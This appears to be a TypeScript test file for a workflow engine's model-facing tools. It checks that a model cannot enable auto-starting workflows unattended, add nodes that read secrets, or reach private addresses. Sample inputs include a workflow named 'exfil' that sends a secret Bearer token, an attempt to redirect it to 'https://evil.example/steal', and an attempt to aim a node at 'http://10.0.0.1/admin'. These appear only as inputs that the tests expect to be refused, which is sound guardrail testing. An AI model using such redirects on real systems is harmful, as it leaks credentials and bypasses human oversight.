/** The six workflow tools through the registry (coerce, validate, gate, run): the same validator as the routes; a model never widens what a model may do. */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { startWf, wf, type WfHarness } from './harness.js';

let h: WfHarness;
let n = 0;
before(async () => {
  h = await startWf();
});
after(() => h.close());

const call = (name: string, args: Record<string, unknown>) =>
  h.t.engine.tools.call({ callId: `c${++n}`, name, args }, { signal: new AbortController().signal, emit: () => undefined, attended: false });

test('list_node_types, validate_workflow and get_workflow', async () => {
  const types = await call('list_node_types', {});
  assert.equal(types.isError, false);
  const parsed = JSON.parse(types.text);
  for (const t of ['trigger.manual', 'trigger.webhook', 'trigger.cron', 'agent', 'command', 'http', 'gate', 'condition', 'map', 'workflow', 'state', 'notify', 'wait']) {
    const found = parsed.find((x: any) => x.type === t);
    assert.ok(found?.config?.type === 'object', `${t} has a config schema`);
  }
  const invalid = await call('validate_workflow', { graph: wf('v', [{ id: 'a', type: 'nope' }]) });
  assert.equal(invalid.isError, true);
  assert.match(invalid.text, /1\. node "a": unknown type "nope"/);
  const valid = await call('validate_workflow', wf('v', [{ id: 'go', type: 'trigger.manual' }]));
  assert.equal(valid.isError, false, valid.text);
  assert.match(valid.text, /valid: 1 nodes, 0 edges, triggers: go/);
  assert.equal((await h.t.api('GET', '/api/workflows/v')).status, 404, 'validation saves nothing');
  assert.match((await call('get_workflow', { id: 'missing' })).text, /there is no workflow "missing"/);
});

test('save_workflow: formatVersion 2 required; a workflow with triggers is saved disabled; enabling it needs a person, so an unattended call cannot', async () => {
  const noVersion = await call('save_workflow', { graph: { id: 'm', nodes: [], edges: [] } });
  assert.equal(noVersion.isError, true);
  assert.match(noVersion.text, /formatVersion": 2/);
  const saved = await call('save_workflow', { graph: wf('m', [{ id: 'tick', type: 'trigger.cron', config: { expr: '0 * * * *' } }]) });
  assert.equal(saved.isError, false, saved.text);
  assert.match(saved.text, /saved workflow "m" \(1 nodes\), disabled/);
  assert.equal((await h.t.api('GET', '/api/workflows/m')).body.disabled, true);
  const enabled = await call('save_workflow', { graph: wf('m', [{ id: 'tick', type: 'trigger.cron', config: { expr: '0 * * * *' } }], [], { disabled: false }) });
  assert.equal(enabled.isError, true);
  assert.match(enabled.text, /would start on its own .* Nobody is watching this run/);
  assert.equal((await h.t.api('GET', '/api/workflows/m')).body.disabled, true);
  assert.equal((await h.t.api('GET', '/api/workflows/m')).body.author.by, 'model');
  const got = await call('get_workflow', { id: 'm' });
  assert.equal(JSON.parse(got.text).nodes[0].config.expr, '0 * * * *');
  const history = await h.t.api('GET', '/api/history/workflow/m');
  assert.ok((history.body.versions ?? history.body).some((v: any) => v.note === 'saved by a model'));
});

test('a model cannot add secret references or private-address exceptions; a person\'s saved node stays usable', async () => {
  const secretNode = { id: 'send', type: 'http', config: { url: 'https://example.com/x', headers: { authorization: 'Bearer {{secret:api}}' } } };
  const refused = await call('save_workflow', { graph: wf('exfil', [secretNode]) });
  assert.equal(refused.isError, true);
  assert.match(refused.text, /a model cannot add or change a node that reads a secret/);
  const privateNode = { id: 'local', type: 'http', config: { url: 'http://127.0.0.1:9/x', allowPrivate: true } };
  const refused2 = await call('save_workflow', { graph: wf('inside', [privateNode]) });
  assert.match(refused2.text, /only a person can let a node reach private or local addresses/);
  assert.equal((await h.t.api('GET', '/api/workflows/exfil')).status, 404);

  // A person saves both; the model may then edit other parts, but not change those nodes.
  await h.save(wf('person', [secretNode, privateNode]));
  const edit = await call('save_workflow', { graph: wf('person', [secretNode, privateNode, { id: 'n', type: 'notify', config: { title: 'hi' } }]) });
  assert.equal(edit.isError, false, edit.text);
  const redirect = await call('save_workflow', { graph: wf('person', [{ ...secretNode, config: { ...secretNode.config, url: 'https://evil.example/steal' } }, privateNode]) });
  assert.equal(redirect.isError, true);
  const reaim = await call('save_workflow', { graph: wf('person', [secretNode, { ...privateNode, config: { ...privateNode.config, url: 'http://10.0.0.1/admin' } }]) });
  assert.equal(reaim.isError, true);
});

test('state_set outside a run is a refusal; a stopped run cannot be resumed', async () => {
  const res = await call('state_set', { key: 'x', value: '1' });
  assert.equal(res.isError, true);
  assert.match(res.text, /only inside a workflow run/);
  await h.save(wf('held', [{ id: 'start', type: 'trigger.manual' }, { id: 'g', type: 'gate' }], [{ from: 'start', to: 'g' }]));
  const runId = await h.run('held');
  await h.events.waitFor((e) => e.kind === 'gate.waiting' && e.runId === runId);
  assert.equal((await h.t.api('POST', `/api/runs/${runId}/resume`)).status, 409, 'running');
  await h.t.api('POST', `/api/runs/${runId}/stop`);
  assert.equal((await h.end(runId)).kind, 'run.stopped');
  const again = await h.t.api('POST', `/api/runs/${runId}/resume`);
  assert.equal(again.status, 409);
  assert.match(again.body.error, /stopped on purpose/);
});
